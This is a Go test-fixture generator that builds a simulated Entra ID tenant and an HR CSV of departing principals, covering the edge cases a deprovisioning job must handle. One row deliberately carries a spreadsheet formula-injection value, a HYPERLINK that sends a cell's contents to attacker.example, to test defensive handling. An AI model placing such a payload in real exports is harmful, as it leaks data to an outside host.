package simtenant

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"time"
)

// tenantDomain is the initial domain of generated tenants.
const tenantDomain = "contoso.onmicrosoft.com"

// mailDomain is the company's mail domain, as a member's mail has it.
const mailDomain = "contoso.com"

// minSamplePrincipals is the fewest departing principals Generate makes:
// the sample needs that many distinct ones to show every status.
const minSamplePrincipals = 10

// Sample is the input file Generate writes for its tenant, with the ids a
// demo or a test needs to know what a correct run reports.
type Sample struct {
	// CSV has the header
	// principal_id,user_principal_name,mail,employee_id,principal_type,reference,effective_date,department
	// (department is a column the job must ignore), LF line ends. Each
	// valid row names its principal by one key: principal_id, or for some
	// users user_principal_name, mail or employee_id.
	CSV []byte
	// Departing holds every principal the CSV validly names, self excepted,
	// in order of first appearance: the protected, deferred and no-assignment
	// ones included.
	Departing []string
	// ByUPN are the departing principals named only by user_principal_name
	// (at least one member and the guest).
	ByUPN []string
	// ByMail and ByEmployeeID are the departing users named only by mail
	// or only by employee_id (at least one each).
	ByMail       []string
	ByEmployeeID []string
	// AmbiguousEmployeeID is an employeeId two staying users share; the
	// CSV names it on an invalid line (it matches 2 users). SharedMail is
	// a mail two other staying users share; the CSV does not name it.
	AmbiguousEmployeeID string
	SharedMail          string
	// Guest is a guest user (#EXT# UPN) named by UPN; it holds assignments.
	Guest string
	// Duplicate is named on two lines.
	Duplicate string
	// Deferred has an effective_date after Config.Now (UTC): status deferred.
	Deferred string
	// NoAssignments hold nothing: status no-assignments.
	NoAssignments []string
	// Protect is for --protect: departing principals that hold assignments
	// a correct run skips with detail protected.
	Protect []string
	// Self is the caller (CallerID), named in the CSV and holding Global
	// Administrator: skipped with detail self.
	Self string
	// Formula is the principal whose reference cell begins with '='.
	Formula string
	// Ghosts are assignments of departing principals that are listed but
	// answer 404: status already-absent.
	Ghosts []string
	// Removable are the assignments a correct run with --protect Protect
	// removes, sorted.
	Removable []string
	// BreakGlass are Global Administrators who are not departing, so the
	// last-global-admin guard does not fire.
	BreakGlass []string
	// ARM is the Azure side: scopes for --azure-scopes, the assignments a
	// run with the azure source removes, and the orphan (the CSV's last
	// line), which holds nothing outside Azure.
	ARM ARMSample
	// InvalidLines are the CSV line numbers (header = line 1) of rows that
	// are invalid: a bad GUID, an unknown UPN and the ambiguous employee id.
	InvalidLines []int

	// Of the sources pim and groups. NoAssignments principals hold nothing
	// in these either (at most plain memberships, which do not count).

	// DirectEligibilities are the Direct eligibility schedule ids of the
	// due, unprotected departing principals: a correct run removes them
	// (adminRemove), sorted.
	DirectEligibilities []string
	// InheritedEligibilities are the Group-type eligibilities of departing
	// principals, sorted: never the target of an adminRemove. They vanish
	// only when the membership they come through is removed (groups
	// source), so after a run with pim alone they all remain.
	InheritedEligibilities []string
	// AssignableMemberships are the (group id, member id) memberships in
	// role-assignable groups of the due, unprotected departing principals:
	// a correct run removes them (DELETE .../$ref), sorted.
	AssignableMemberships [][2]string
	// PlainMemberships are every membership of departing principals in
	// groups that are not role-assignable: they must remain, sorted.
	PlainMemberships [][2]string
	// MemberSP is a departing service principal that is a member of a
	// role-assignable group.
	MemberSP string
	// PIMManaged are the assignments of Removable made through PIM
	// (MarkPIMManaged), sorted: with Config.PIMManagedDeleteRefused a
	// plain DELETE of them is refused.
	PIMManaged []string
	// GlobalAdminGroup is the role-assignable group "Tier0 Admins": it
	// holds Global Administrator at "/", and none of its members is
	// departing.
	GlobalAdminGroup string
	// GroupOwnerships are the (group id, owner id) ownerships of
	// role-assignable groups that a correct run removes, sorted; each
	// group keeps an owner who stays.
	GroupOwnerships [][2]string
	// LastOwner is the (group id, owner id) of a departing principal who
	// is the only owner of a role-assignable group: skipped, last-owner.
	LastOwner [2]string
	// GroupSchedules are the ids of the PIM for Groups schedules (eligible
	// and active, member and owner) that a correct run removes, sorted.
	GroupSchedules []string
	// Apps is what the sample holds for the apps source (apps_generate.go).
	Apps AppsSample
	// AzureGroup is the (group id, member id) membership of a security
	// group that is not role-assignable but holds an Azure role: with the
	// azure source, a correct run removes it (azure-group-member).
	AzureGroup [2]string
}

// Generate builds a tenant with a realistic population and a sample CSV of
// departing principals that exercises every row status. Everything follows
// from cfg.Seed and cfg.Now: the same config gives the same tenant and CSV.
// principals is the number of distinct departing principals (at least 10).
func Generate(cfg Config, principals int) (*Tenant, Sample) {
	principals = max(principals, minSamplePrincipals)
	t := New(cfg)
	g := &generator{
		t:    t,
		rng:  rand.New(rand.NewPCG(cfg.Seed, 0x67656e6572617465)), // "generate"
		upns: map[string]bool{},
	}
	for range 3 {
		g.units = append(g.units, t.NewID())
	}
	now := t.Now().UTC()
	var s Sample

	// Who stays: two break-glass accounts and the job itself hold Global
	// Administrator; other staff and apps hold assorted roles.
	for i := range 2 {
		u := t.AddUser(User{
			UserPrincipalName: fmt.Sprintf("breakglass%d@%s", i+1, tenantDomain),
			DisplayName:       fmt.Sprintf("Break Glass %d", i+1),
		})
		g.upns[strings.ToLower(u.UserPrincipalName)] = true
		t.AddRoleAssignment(RoleAssignment{PrincipalID: u.ID, RoleDefinitionID: GlobalAdministrator})
		s.BreakGlass = append(s.BreakGlass, u.ID)
	}
	t.AddRoleAssignment(RoleAssignment{PrincipalID: t.CallerID(), RoleDefinitionID: GlobalAdministrator})
	var staff []User
	for range principals/2 + 3 {
		u := g.user(false)
		g.assign(u.ID, g.rng.IntN(3))
		staff = append(staff, u)
	}
	// Mail and employeeId are not unique in Entra: two staff share an
	// employee id (HR reused a number), two others a mail.
	staff[1].EmployeeID = staff[0].EmployeeID
	staff[3].Mail = staff[2].Mail
	t.AddUser(staff[1])
	t.AddUser(staff[3])
	s.AmbiguousEmployeeID, s.SharedMail = staff[0].EmployeeID, staff[2].Mail
	for range max(2, principals/10) {
		sp := g.servicePrincipal()
		g.assign(sp.ID, g.rng.IntN(2))
	}

	// Who leaves. Fixed positions carry the special cases so that each is
	// present however small the sample.
	const (
		noAssignments = iota
		protected
		ghost1
		ghost2
		deferred
		duplicate
		formula
		memberByUPN
		specials
	)
	nSP := max(1, principals/8)
	nUsers := principals - nSP
	guest := nUsers - 1
	leavers := make([]leaver, principals)
	for i := range leavers {
		switch {
		case i < nUsers:
			u := g.user(i == guest || i >= specials && g.rng.IntN(20) == 0)
			byUPN := i == guest || i == memberByUPN || i >= specials && g.rng.IntN(6) == 0
			leavers[i] = leaver{id: u.ID, upn: u.UserPrincipalName, mail: u.Mail, employeeID: u.EmployeeID, kind: "User", byUPN: byUPN}
			// Some users by their HR keys; no draw from rng, so the
			// tenant is what the seed gave before the keys existed.
			switch {
			case byUPN:
			case i == ghost2 || i >= specials && i%4 == 1:
				leavers[i].key = "mail"
			case i == noAssignments || i >= specials && i%4 == 2 && u.EmployeeID != "":
				leavers[i].key = "employee_id"
			}
		default:
			sp := g.servicePrincipal()
			leavers[i] = leaver{id: sp.ID, kind: "ServicePrincipal"}
		}
		held := g.rng.IntN(5)
		switch {
		case i == noAssignments:
			held = 0
		case i < specials || i == guest:
			held = max(held, 1)
		}
		ids := g.assign(leavers[i].id, held)
		if i == ghost1 || i == ghost2 {
			t.MarkGhost(ids[0])
			s.Ghosts = append(s.Ghosts, ids[0])
		}
	}

	// The CSV: one row per leaver, then the awkward rows, shuffled
	// (deterministically) as an HR export would be in no useful order.
	type row struct {
		id, upn, mail, employeeID, kind, ref, date, dept string
		invalid                                          bool
	}
	var rows []row
	for i, l := range leavers {
		r := row{kind: l.kind, ref: g.reference(), date: g.pastDate(now), dept: g.department()}
		switch {
		case l.byUPN:
			r.upn = l.upn
			s.ByUPN = append(s.ByUPN, l.id)
		case l.key == "mail":
			r.mail = l.mail
			s.ByMail = append(s.ByMail, l.id)
		case l.key == "employee_id":
			r.employeeID = l.employeeID
			s.ByEmployeeID = append(s.ByEmployeeID, l.id)
		default:
			r.id = l.id
		}
		switch i {
		case deferred:
			r.date = now.AddDate(0, 0, 14).Format(time.DateOnly)
		case formula:
			r.ref = `=HYPERLINK("https://attacker.example/?d="&A1,"open ticket")`
		case duplicate:
			dup := r
			dup.ref = r.ref + " (resent)"
			rows = append(rows, dup)
		}
		rows = append(rows, r)
	}
	unknownUPN := "nobody.here@" + tenantDomain
	for g.upns[unknownUPN] {
		unknownUPN = "x" + unknownUPN
	}
	rows = append(rows,
		row{id: "9f8e7d6c-5b4a-4321-9fed-cba98765432", kind: "User", ref: g.reference(), date: g.pastDate(now), dept: g.department(), invalid: true},
		row{upn: unknownUPN, kind: "User", ref: g.reference(), date: g.pastDate(now), dept: g.department(), invalid: true},
		row{id: t.CallerID(), kind: "ServicePrincipal", ref: g.reference(), date: g.pastDate(now), dept: "IT"},
	)
	g.rng.Shuffle(len(rows), func(i, j int) { rows[i], rows[j] = rows[j], rows[i] })
	// After the shuffle and without rng: what the seed gave stays as it was.
	rows = append(rows, row{employeeID: s.AmbiguousEmployeeID, kind: "User", ref: "HR-00001", dept: "Finance", invalid: true})

	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.Write([]string{"principal_id", "user_principal_name", "mail", "employee_id", "principal_type", "reference", "effective_date", "department"})
	byKey := map[string]string{}
	for _, l := range leavers {
		for _, k := range []string{l.upn, l.mail, l.employeeID} {
			if k != "" {
				byKey[k] = l.id
			}
		}
	}
	seen := map[string]bool{}
	for i, r := range rows {
		w.Write([]string{r.id, r.upn, r.mail, r.employeeID, r.kind, r.ref, r.date, r.dept})
		if r.invalid {
			s.InvalidLines = append(s.InvalidLines, i+2)
			continue
		}
		id := r.id
		if id == "" {
			id = byKey[r.upn+r.mail+r.employeeID]
		}
		if id != t.CallerID() && !seen[id] {
			seen[id] = true
			s.Departing = append(s.Departing, id)
		}
	}
	w.Flush()
	s.CSV = buf.Bytes()

	s.Guest = leavers[guest].id
	s.Duplicate = leavers[duplicate].id
	s.Deferred = leavers[deferred].id
	s.Protect = []string{leavers[protected].id}
	s.Self = t.CallerID()
	s.Formula = leavers[formula].id

	// Groups and PIM come last, so that everything above (ids, the CSV)
	// is what a seed gave before they existed.
	forced := map[int]string{memberByUPN: "helpdesk", protected: "helpdesk", deferred: "secops", guest: "secops"}
	g.groupsAndPIM(&s, leavers, forced, slices.Clone(s.BreakGlass), now)

	for _, id := range s.Departing {
		held := t.RoleAssignmentsOf(id)
		if len(held) == 0 {
			s.NoAssignments = append(s.NoAssignments, id)
		}
		if id == s.Deferred || slices.Contains(s.Protect, id) {
			continue
		}
		for _, a := range held {
			if !slices.Contains(s.Ghosts, a.ID) {
				s.Removable = append(s.Removable, a.ID)
			}
		}
	}
	slices.Sort(s.Removable)
	for _, id := range s.Removable {
		if t.IsPIMManaged(id) {
			s.PIMManaged = append(s.PIMManaged, id)
		}
	}
	g.sampleGroupsAndPIM(&s)
	g.groupAccess(&s)

	// Azure comes last of all: assignments at every scope for the
	// principals a correct run acts on, and an orphan (a principal deleted
	// from Entra ID that still holds Azure roles) named by id on a line of
	// its own at the end of the CSV.
	var acting, staying []string
	for _, id := range s.Departing {
		switch {
		case id == s.Deferred || slices.Contains(s.Protect, id):
			staying = append(staying, id)
		case slices.Contains(s.NoAssignments, id):
		default:
			acting = append(acting, id)
		}
	}
	s.ARM = t.GenerateARM(cfg.Seed, acting, append(staying, s.BreakGlass...))
	g.appsAccess(&s, acting)
	g.azureGroupAccess(&s, acting)
	var tail bytes.Buffer
	w = csv.NewWriter(&tail)
	w.Write([]string{s.ARM.Orphan, "", "", "", "", g.reference(), "", g.department()})
	w.Flush()
	s.CSV = append(s.CSV, tail.Bytes()...)
	s.Departing = append(s.Departing, s.ARM.Orphan)
	return t, s
}

// leaver is a departing principal of the sample.
type leaver struct {
	id, upn, mail, employeeID, kind string
	byUPN                           bool
	key                             string // "mail" or "employee_id": named by that key alone
}

// groupsAndPIM adds groups, memberships, eligibilities and PIM-managed
// marks. Role-assignable groups: Tier0 Admins (Global Administrator;
// eligible for Privileged Role Administrator; members who stay), Helpdesk
// Operators (Helpdesk Administrator; eligible for User Administrator),
// Security Operators (Security Reader; eligible for Global Reader). Plain
// groups: All Staff (staff, the break-glass accounts, every departing
// user), Project X. A leaver that holds directory assignments
// may also get 0-2 Direct eligibilities, a role-assignable membership
// (forced names which, by leaver index) with the Group-type eligibility it
// brings, and PIM-managed assignments; leavers holding nothing get none
// of these, so they stay no-assignments in every source.
func (g *generator) groupsAndPIM(s *Sample, leavers []leaver, forced map[int]string, staff []string, now time.Time) {
	t := g.t
	tier0 := t.AddGroup(Group{DisplayName: "Tier0 Admins", IsAssignableToRole: true})
	helpdesk := t.AddGroup(Group{DisplayName: "Helpdesk Operators", IsAssignableToRole: true})
	secops := t.AddGroup(Group{DisplayName: "Security Operators", IsAssignableToRole: true})
	allStaff := t.AddGroup(Group{DisplayName: "All Staff"})
	projectX := t.AddGroup(Group{DisplayName: "Project X"})
	assignable := map[string]Group{"tier0": tier0, "helpdesk": helpdesk, "secops": secops}
	s.GlobalAdminGroup = tier0.ID

	t.AddRoleAssignment(RoleAssignment{PrincipalID: tier0.ID, RoleDefinitionID: GlobalAdministrator})
	t.AddRoleAssignment(RoleAssignment{PrincipalID: helpdesk.ID, RoleDefinitionID: HelpdeskAdministrator})
	t.AddRoleAssignment(RoleAssignment{PrincipalID: secops.ID, RoleDefinitionID: SecurityReader})
	g.eligible(tier0.ID, PrivilegedRoleAdministrator, "/", now)
	g.eligible(helpdesk.ID, UserAdministrator, "/", now)
	g.eligible(secops.ID, GlobalReader, "/", now)

	for range 2 {
		u := g.user(false)
		g.join(tier0.ID, u.ID)
		staff = append(staff, u.ID)
	}
	for _, id := range staff {
		g.join(allStaff.ID, id)
	}

	firstSP := true
	for i, l := range leavers {
		if l.kind == "User" {
			g.join(allStaff.ID, l.id)
			if g.rng.IntN(3) == 0 {
				g.join(projectX.ID, l.id)
			}
		}
		memberSP := l.kind == "ServicePrincipal" && firstSP
		if memberSP {
			firstSP = false
			if len(t.RoleAssignmentsOf(l.id)) == 0 {
				g.assign(l.id, 1)
			}
		}
		held := t.RoleAssignmentsOf(l.id)
		if len(held) == 0 {
			continue
		}
		n := g.rng.IntN(3)
		if _, ok := forced[i]; ok {
			n = max(n, 1)
		}
		g.directEligibilities(l.id, n, now)

		group := forced[i]
		switch {
		case memberSP:
			group = "helpdesk"
			s.MemberSP = l.id
		case group == "" && g.rng.IntN(4) == 0:
			group = g.pick([]string{"helpdesk", "secops"})
		}
		if group != "" {
			g.join(assignable[group].ID, l.id)
		}
		for _, a := range held {
			if !t.IsGhost(a.ID) && g.rng.IntN(4) == 0 {
				t.MarkPIMManaged(a.ID)
			}
		}
	}
	if len(t.Members(projectX.ID)) == 0 {
		g.join(projectX.ID, leavers[0].id)
	}
}

// join makes id a member of a group and, for a role-assignable group,
// gives it the Group-type eligibilities the group's own Direct ones bring.
func (g *generator) join(groupID, id string) {
	if err := g.t.AddMember(groupID, id); err != nil {
		panic("simtenant: generating: " + err.Error()) // the generator's own mistake
	}
	group, _ := g.t.Group(groupID)
	if !group.IsAssignableToRole {
		return
	}
	for _, e := range g.t.EligibilitiesOf(groupID) {
		if e.MemberType != MemberTypeDirect {
			continue
		}
		g.t.AddEligibility(EligibilitySchedule{
			PrincipalID: id, RoleDefinitionID: e.RoleDefinitionID, DirectoryScopeID: e.DirectoryScopeID,
			MemberType: MemberTypeGroup, ViaGroup: group.ID,
			StartDateTime: e.StartDateTime, EndDateTime: e.EndDateTime, CreatedUsing: e.ID,
		})
	}
}

// eligible adds a Direct eligibility that started up to a year ago and,
// one time in three, ends within a year.
func (g *generator) eligible(principalID, role, scope string, now time.Time) EligibilitySchedule {
	start := now.Add(-time.Duration(1+g.rng.IntN(365)) * 24 * time.Hour).Truncate(time.Second)
	var end *time.Time
	if g.rng.IntN(3) == 0 {
		e := now.Add(time.Duration(30+g.rng.IntN(335)) * 24 * time.Hour).Truncate(time.Second)
		end = &e
	}
	return g.t.AddEligibility(EligibilitySchedule{
		PrincipalID: principalID, RoleDefinitionID: role, DirectoryScopeID: scope,
		StartDateTime: start, EndDateTime: end,
	})
}

// directEligibilities makes a principal eligible for n distinct roles,
// some scoped to an administrative unit.
func (g *generator) directEligibilities(principalID string, n int, now time.Time) {
	pool := []string{UserAdministrator, HelpdeskAdministrator, SecurityReader, GlobalReader,
		ApplicationAdministrator, CloudApplicationAdministrator, GroupsAdministrator,
		ExchangeAdministrator, PrivilegedRoleAdministrator}
	g.rng.Shuffle(len(pool), func(i, j int) { pool[i], pool[j] = pool[j], pool[i] })
	for _, role := range pool[:n] {
		scope := "/"
		scopable := role == UserAdministrator || role == HelpdeskAdministrator || role == GroupsAdministrator
		if scopable && g.rng.IntN(4) == 0 {
			scope = "/administrativeUnits/" + g.pick(g.units)
		}
		g.eligible(principalID, role, scope, now)
	}
}

// sampleGroupsAndPIM fills in the Sample fields of the pim and groups
// sources from the tenant as generated.
func (g *generator) sampleGroupsAndPIM(s *Sample) {
	t := g.t
	for _, id := range s.Departing {
		due := id != s.Deferred && !slices.Contains(s.Protect, id)
		for _, e := range t.EligibilitiesOf(id) {
			switch {
			case e.MemberType == MemberTypeDirect && due:
				s.DirectEligibilities = append(s.DirectEligibilities, e.ID)
			case e.MemberType == MemberTypeGroup:
				s.InheritedEligibilities = append(s.InheritedEligibilities, e.ID)
			}
		}
		for _, gid := range t.MemberOf(id) {
			group, _ := t.Group(gid)
			switch {
			case !group.IsAssignableToRole:
				s.PlainMemberships = append(s.PlainMemberships, [2]string{gid, id})
			case due:
				s.AssignableMemberships = append(s.AssignableMemberships, [2]string{gid, id})
			}
		}
	}
	slices.Sort(s.DirectEligibilities)
	slices.Sort(s.InheritedEligibilities)
	byPair := func(a, b [2]string) int { return strings.Compare(a[0]+"/"+a[1], b[0]+"/"+b[1]) }
	slices.SortFunc(s.AssignableMemberships, byPair)
	slices.SortFunc(s.PlainMemberships, byPair)
}

// generator draws the generated population from one seeded source; calls
// happen in a fixed order, which is what makes Generate repeatable.
type generator struct {
	t     *Tenant
	rng   *rand.Rand
	upns  map[string]bool
	units []string // administrative unit ids
	apps  int
	// employees numbers the members' employeeId.
	employees int
}

func (g *generator) pick(list []string) string { return list[g.rng.IntN(len(list))] }

// user adds a member, or a guest whose UPN carries #EXT#.
func (g *generator) user(guest bool) User {
	first := g.pick([]string{"Adele", "Alex", "Allan", "Bianca", "Christie", "Debra", "Diego", "Enrico",
		"Grady", "Henrietta", "Isaiah", "Johanna", "Joni", "Lee", "Lidia", "Lynne", "Megan", "Miriam",
		"Nestor", "Patti", "Pradeep", "Raul", "Sakura", "Yuki"})
	last := g.pick([]string{"Vance", "Wilber", "Deyoung", "Jones", "Cline", "Berg", "Zamora", "Cattaneo",
		"Archie", "Rios", "Langer", "Lauer", "Sherman", "Gu", "Holloway", "Fox", "Bowen", "Hunter",
		"Varga", "Fernandez", "Gupta", "Moreno", "Tanaka", "Sato"})
	local := strings.ToLower(first + "." + last)
	display := first + " " + last
	domain := tenantDomain
	if guest {
		home := g.pick([]string{"fabrikam.com", "northwind.example", "tailspin.example"})
		local = local + "_" + home + "#EXT#"
		display += " (" + home + ")"
	}
	upn := local + "@" + domain
	for n := 2; g.upns[strings.ToLower(upn)]; n++ {
		if guest {
			upn = strings.Replace(local, "_", strconv.Itoa(n)+"_", 1) + "@" + domain
		} else {
			upn = local + strconv.Itoa(n) + "@" + domain
		}
	}
	g.upns[strings.ToLower(upn)] = true
	// A member's mail is its alias at the company's domain and HR gave it
	// an employee number; a guest's mail is its own external address
	// (alias_home#EXT# → alias@home) and HR knows nothing of it.
	u := User{UserPrincipalName: upn, DisplayName: display, UserType: "Member"}
	alias, _, _ := strings.Cut(upn, "@")
	if guest {
		u.UserType = "Guest"
		ext := strings.TrimSuffix(alias, "#EXT#")
		at := strings.LastIndexByte(ext, '_')
		u.Mail = ext[:at] + "@" + ext[at+1:]
	} else {
		g.employees++
		u.Mail = alias + "@" + mailDomain
		u.EmployeeID = fmt.Sprintf("%06d", 100000+g.employees)
	}
	return g.t.AddUser(u)
}

// servicePrincipal adds an application's service principal.
func (g *generator) servicePrincipal() ServicePrincipal {
	g.apps++
	name := g.pick([]string{"Payroll Sync", "HR Connector", "Backup Agent", "Provisioning Bot",
		"Reporting Service", "Ticket Bridge", "Legacy Importer"})
	return g.t.AddServicePrincipal(ServicePrincipal{DisplayName: fmt.Sprintf("%s %d", name, g.apps)})
}

// assign gives a principal n distinct roles; Global Administrator is rare,
// and the roles that can be scoped to an administrative unit sometimes are.
func (g *generator) assign(principalID string, n int) []string {
	pool := []string{UserAdministrator, HelpdeskAdministrator, SecurityReader, GlobalReader,
		ApplicationAdministrator, CloudApplicationAdministrator, GroupsAdministrator,
		ExchangeAdministrator, PrivilegedRoleAdministrator}
	g.rng.Shuffle(len(pool), func(i, j int) { pool[i], pool[j] = pool[j], pool[i] })
	roles := pool[:min(n, len(pool))]
	if n > 0 && g.rng.IntN(12) == 0 {
		roles[0] = GlobalAdministrator
	}
	var ids []string
	for _, role := range roles {
		scope := "/"
		scopable := role == UserAdministrator || role == HelpdeskAdministrator || role == GroupsAdministrator
		if scopable && g.rng.IntN(4) == 0 {
			scope = "/administrativeUnits/" + g.pick(g.units)
		}
		a := g.t.AddRoleAssignment(RoleAssignment{PrincipalID: principalID, RoleDefinitionID: role, DirectoryScopeID: scope})
		ids = append(ids, a.ID)
	}
	return ids
}

func (g *generator) reference() string { return fmt.Sprintf("HR-%05d", 10000+g.rng.IntN(90000)) }

func (g *generator) department() string {
	return g.pick([]string{"Sales", "Finance", "Engineering", "Sales, EMEA", "Legal", "Marketing", "Support"})
}

// pastDate is a due effective_date: today or up to nine days back, or
// (one time in five) empty.
func (g *generator) pastDate(now time.Time) string {
	if g.rng.IntN(5) == 0 {
		return ""
	}
	return now.AddDate(0, 0, -g.rng.IntN(10)).Format(time.DateOnly)
}

// groupAccess adds the other paths to the role-assignable groups' roles:
// owners and PIM for Groups schedules. It draws nothing from the seeded
// sources and creates no object, so everything generated before stays as
// it was. Tier0 Admins is owned by a member who stays; Helpdesk Operators
// by a break-glass account and the first acting member; Security
// Operators by the second acting member alone (last-owner). Acting
// members, in turn: an eligible membership of Security Operators, an
// eligible ownership of Helpdesk Operators, an active (PIM) membership of
// the group they are a member of.
func (g *generator) groupAccess(s *Sample) {
	t := g.t
	byName := map[string]string{}
	for _, gr := range t.Groups() {
		byName[gr.DisplayName] = gr.ID
	}
	tier0, helpdesk, secops := byName["Tier0 Admins"], byName["Helpdesk Operators"], byName["Security Operators"]
	var acting []string
	groupOf := map[string]string{}
	for _, m := range s.AssignableMemberships {
		if _, ok := groupOf[m[1]]; !ok {
			acting = append(acting, m[1])
			groupOf[m[1]] = m[0]
		}
	}
	slices.Sort(acting)
	if stay := t.Members(tier0); len(stay) > 0 {
		_ = t.AddOwner(tier0, stay[0])
	}
	if len(s.BreakGlass) > 0 {
		_ = t.AddOwner(helpdesk, s.BreakGlass[0])
	}
	if len(acting) > 0 && t.AddOwner(helpdesk, acting[0]) == nil {
		s.GroupOwnerships = append(s.GroupOwnerships, [2]string{helpdesk, acting[0]})
	}
	if len(acting) > 1 && t.AddOwner(secops, acting[1]) == nil {
		s.LastOwner = [2]string{secops, acting[1]}
	}
	for i, id := range acting {
		var sched GroupSchedule
		switch i % 3 {
		case 0:
			sched = GroupSchedule{GroupID: secops, PrincipalID: id, AccessID: AccessMember}
		case 1:
			sched = GroupSchedule{GroupID: helpdesk, PrincipalID: id, AccessID: AccessOwner}
		default:
			sched = GroupSchedule{GroupID: groupOf[id], PrincipalID: id, AccessID: AccessMember, Active: true}
		}
		s.GroupSchedules = append(s.GroupSchedules, t.AddGroupSchedule(sched).ID)
	}
	// The last acting member is also an active owner (PIM for Groups) of
	// Helpdesk Operators, beside the owners who stay: every kind of group
	// access is in the sample.
	if n := len(acting); n > 3 {
		sched := GroupSchedule{GroupID: helpdesk, PrincipalID: acting[n-1], AccessID: AccessOwner, Active: true}
		s.GroupSchedules = append(s.GroupSchedules, t.AddGroupSchedule(sched).ID)
	}
	slices.SortFunc(s.GroupOwnerships, func(a, b [2]string) int { return strings.Compare(a[0]+"/"+a[1], b[0]+"/"+b[1]) })
	slices.Sort(s.GroupSchedules)
}

// azureGroupAccess adds Azure Contributors, a security group that is not
// role-assignable and holds Contributor on the first subscription, with
// the first acting user as its member (the azure-group-member kind).
func (g *generator) azureGroupAccess(s *Sample, acting []string) {
	if len(s.ARM.Scopes) == 0 {
		return
	}
	t := g.t
	for _, id := range acting {
		if _, ok := t.User(id); !ok {
			continue
		}
		group := t.AddGroup(Group{ID: guidFromHash(hash64(t.cfg.Seed, "azure-group", t.tenantID)), DisplayName: "Azure Contributors"})
		if t.AddMember(group.ID, id) != nil {
			return
		}
		t.AddARMRoleAssignment(ARMRoleAssignment{Scope: s.ARM.Scopes[0], RoleDefinitionID: ARMContributor, PrincipalID: group.ID, PrincipalType: "Group"})
		s.AzureGroup = [2]string{group.ID, id}
		return
	}
}
